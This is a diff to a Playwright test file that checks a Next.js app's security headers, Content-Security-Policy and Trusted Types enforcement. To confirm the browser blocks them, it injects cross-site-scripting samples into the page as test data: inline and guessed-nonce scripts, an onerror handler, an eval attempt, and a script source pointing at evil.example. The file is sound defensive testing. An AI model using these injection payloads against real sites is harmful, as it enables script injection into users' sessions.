@@ -31,6 +31,9 @@ function apiRoutes(): ApiRoute[] {
 const routes = apiRoutes()
 const stateChanging = routes.flatMap((route) => route.methods.filter((method) => !['GET', 'HEAD', 'OPTIONS'].includes(method)).map((method) => ({ path: route.path, method })))
 
+/** Same-origin image endpoints (lib/http/imageResponseHeaders.ts). */
+const IMAGE_ENDPOINTS = ['/api/ens/[address]/avatar']
+
 const SECURITY_HEADERS = {
   'x-content-type-options': 'nosniff',
   'referrer-policy': 'strict-origin-when-cross-origin',
@@ -83,17 +86,26 @@ test.describe('security headers', () => {
       const response = await request.get(`${app.baseURL}${pagePath}`, { failOnStatusCode: false })
       nonces.add(expectSecurityHeaders(response.headers(), `GET ${pagePath} (${response.status()})`))
     }
+    let images = 0
     for (const route of routes) {
       for (const method of route.methods) {
         const answer = await send(request, `${app.baseURL}${route.path}`, method, { origin: app.baseURL })
+        if (IMAGE_ENDPOINTS.includes(route.path)) {
+          // An image endpoint is never a document: its own inert policy instead of the page's.
+          images++
+          expect(answer.headers['content-security-policy'], `CSP on ${route.path}`).toBe("default-src 'none'; sandbox")
+          expect(answer.headers['x-content-type-options']).toBe('nosniff')
+          continue
+        }
         nonces.add(expectSecurityHeaders(answer.headers, `${method} ${route.path} (${answer.status})`))
       }
     }
+    expect(images).toBe(IMAGE_ENDPOINTS.length)
     // A refused request carries them too.
     const refused = await send(request, `${app.baseURL}/api/auth/logout`, 'POST', { origin: 'https://evil.example' })
     expect(refused.status).toBe(403)
     nonces.add(expectSecurityHeaders(refused.headers, 'a refused POST'))
-    const total = 3 + routes.reduce((sum, route) => sum + route.methods.length, 0) + 1
+    const total = 3 + routes.reduce((sum, route) => sum + route.methods.length, 0) - images + 1
     expect(nonces.size, 'one nonce per response').toBe(total)
   })
 
@@ -104,6 +116,8 @@ test.describe('security headers', () => {
     const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((match) => match[0])
     expect(scripts.length).toBeGreaterThan(0)
     for (const tag of scripts) expect(tag, 'every script tag Next wrote').toContain(`nonce="${nonce}"`)
+    // Our page writes no style attribute (style-src-attr keeps 'unsafe-inline' for Next's built-in error pages only).
+    expect(html).not.toMatch(/<[a-z][^>]*\sstyle="/i)
     // Hydrated: the connect button opens the dialog.
     await page.getByTestId('connect-button').click()
     await expect(page.getByTestId('connect-dialog')).toBeVisible()
@@ -156,20 +170,27 @@ test.describe('the Content-Security-Policy in the browser', () => {
     // The injections below are blocked on purpose; any other violation still fails the test.
     cspViolations.expect((violation) =>
       violation.source === 'console'
-        ? /inline|eval|injected\.js/i.test(violation.blocked)
-        : /^script-src/.test(violation.directive) && (['inline', 'eval'].includes(violation.blocked) || violation.blocked.endsWith('/injected.js')),
+        ? /inline|eval|injected\.js|'TrustedScript' assignment/i.test(violation.blocked)
+        : (/^script-src/.test(violation.directive) && (['inline', 'eval'].includes(violation.blocked) || violation.blocked.endsWith('/injected.js'))) ||
+          (violation.directive === 'require-trusted-types-for' && /^eval\|/.test(violation.sample ?? '')),
     )
     // What a stored or reflected HTML injection would add to the server's HTML: parser-inserted
-    // scripts, inline, with a guessed nonce, and from this very origin. The response keeps its headers.
+    // scripts, inline, with a guessed nonce, from this very origin, and an inline event handler.
+    // The response keeps its headers. Last, a script of the page's own (the response's nonce)
+    // tries eval from a task of its own (while Playwright's evaluate is on the stack, the browser
+    // allows eval): off in production builds, where Trusted Types refuses the string first.
     await page.route(`${app.baseURL}/`, async (route) => {
       // Only the document: the Coinbase SDK also sends a HEAD of this page (its COOP check).
       if (!route.request().isNavigationRequest()) return route.fallback()
       const response = await route.fetch()
       const html = await response.text()
+      const nonce = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')![1]
       const injected = [
         `<script>window.__probe = (window.__probe || []).concat('inline')</script>`,
         `<script nonce="Z3Vlc3NlZC1ub25jZQ==">window.__probe = (window.__probe || []).concat('guessed nonce')</script>`,
         `<script src="/injected.js"></script>`,
+        `<img alt="" src="data:," onerror="window.__probe = ['handler']">`,
+        `<script nonce="${nonce}">setTimeout(() => { try { window.__evalResult = String((0, eval)('1 + 1')) } catch (error) { window.__evalResult = error.name } })</script>`,
       ].join('')
       expect(html).toContain('</head>')
       await route.fulfill({ response, body: html.replace('</head>', `${injected}</head>`) })
@@ -178,30 +199,55 @@ test.describe('the Content-Security-Policy in the browser', () => {
     // Next's own scripts ran: the app hydrated and the connect button works.
     await page.getByTestId('connect-button').click()
     await expect(page.getByTestId('connect-dialog')).toBeVisible()
-    expect(await page.evaluate(() => (window as Probe).__probe)).toBeUndefined()
-
-    // Markup added later through innerHTML: an inline event handler does not run either.
-    await page.evaluate(() => {
-      const box = document.createElement('div')
-      box.innerHTML = `<img alt="" src="data:," onerror="window.__probe = ['handler']">`
-      document.body.append(box)
-    })
     // Distinct kinds: Chromium may report one blocked handler more than once (once per event dispatch).
     const blocked = () => [...new Set(cspViolations.all.filter((v) => v.source === 'event').map((v) => `${v.directive} ${v.blocked.replace(app.baseURL, '')}`))].sort()
-    await expect.poll(blocked).toEqual(['script-src-attr inline', 'script-src-elem /injected.js', 'script-src-elem inline'])
+    await expect.poll(blocked).toEqual(['require-trusted-types-for trusted-types-sink', 'script-src-attr inline', 'script-src-elem /injected.js', 'script-src-elem inline'])
     // Both inline scripts (without a nonce, and with a guessed one) were refused.
     expect(cspViolations.all.filter((v) => v.source === 'event' && v.directive === 'script-src-elem' && v.blocked === 'inline')).toHaveLength(2)
     expect(await page.evaluate(() => (window as Probe).__probe)).toBeUndefined()
-
-    // eval is off in production builds. Tried from a task of the page's own (a script with the
-    // nonce, on a timer): while Playwright's evaluate is on the stack, the browser allows eval.
-    await page.evaluate(() => {
-      const script = document.createElement('script')
-      script.nonce = (document.querySelector('script[nonce]') as HTMLScriptElement).nonce
-      script.textContent = `setTimeout(() => { try { window.__evalResult = String((0, eval)('1 + 1')) } catch (error) { window.__evalResult = error.name } })`
-      document.body.append(script)
-    })
     await expect.poll(() => page.evaluate(() => (window as Window & { __evalResult?: string }).__evalResult)).toBe('EvalError')
+  })
+
+  test("Next's built-in not-found page renders under the policy: its style is allowed by hash, nothing is refused", async ({ app, page }) => {
+    const response = await page.goto(`${app.baseURL}/no-such-page`)
+    expect(response!.status()).toBe(404)
+    // Its own <style> applied: the heading's divider rule comes from it.
+    await expect(page.locator('.next-error-h1')).toHaveCSS('border-right-style', 'solid')
+  })
+
+  test('Trusted Types: a page script that puts a string into innerHTML or a script address is refused and reported; the page\'s chunks still load', async ({ app, page, cspViolations }) => {
+    cspViolations.expect((violation) => violation.directive === 'require-trusted-types-for')
+    const csp = (await page.request.get(app.baseURL)).headers()['content-security-policy'] ?? ''
+    expect(csp).toContain("require-trusted-types-for 'script'")
+    expect(csp).toMatch(/trusted-types default(;|$)/)
+    // A script of the page's own (the response's nonce), as an XSS gadget in the app would run:
+    // caught assignments record their outcome; the last one is left uncaught, as in real code.
+    await page.route(`${app.baseURL}/`, async (route) => {
+      if (!route.request().isNavigationRequest()) return route.fallback()
+      const response = await route.fetch()
+      const nonce = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')![1]
+      const gadget = `<script nonce="${nonce}">setTimeout(() => {
+        const box = document.createElement('div')
+        const results = {}
+        try { box.innerHTML = '<img alt="" src="data:,">'; results.html = 'assigned' } catch (error) { results.html = error.name }
+        try { document.createElement('script').src = 'https://evil.example/x.js'; results.url = 'assigned' } catch (error) { results.url = error.name }
+        try { trustedTypes.createPolicy('escape-hatch', { createHTML: (s) => s }); results.policy = 'created' } catch (error) { results.policy = error.name }
+        window.__ttResults = results
+        setTimeout(() => { document.body.insertAdjacentHTML('beforeend', '<p id="tt-probe">x</p>') })
+      })</script>`
+      await route.fulfill({ response, body: (await response.text()).replace('</head>', `${gadget}</head>`) })
+    })
+    cspViolations.expect((violation) => violation.directive === 'trusted-types')
+    await page.goto(app.baseURL)
+    await expect.poll(() => page.evaluate(() => (window as Window & { __ttResults?: unknown }).__ttResults)).toEqual({ html: 'TypeError', url: 'TypeError', policy: 'TypeError' })
+    await expect(page.locator('#tt-probe')).toHaveCount(0)
+    // Reported as the guard sees them: the violation events, and the uncaught refusal as a page error.
+    await expect
+      .poll(() => cspViolations.all.filter((v) => v.directive === 'require-trusted-types-for').map((v) => `${v.source} ${v.source === 'event' ? v.blocked : /TrustedHTML/.test(v.blocked)}`))
+      .toEqual(expect.arrayContaining(['event trusted-types-sink', 'console true']))
+    // The page's own lazy chunks still load through the one policy: the connect dialog opens.
+    await page.getByTestId('connect-button').click()
+    await expect(page.getByTestId('connect-dialog')).toBeVisible()
   })
 })
 
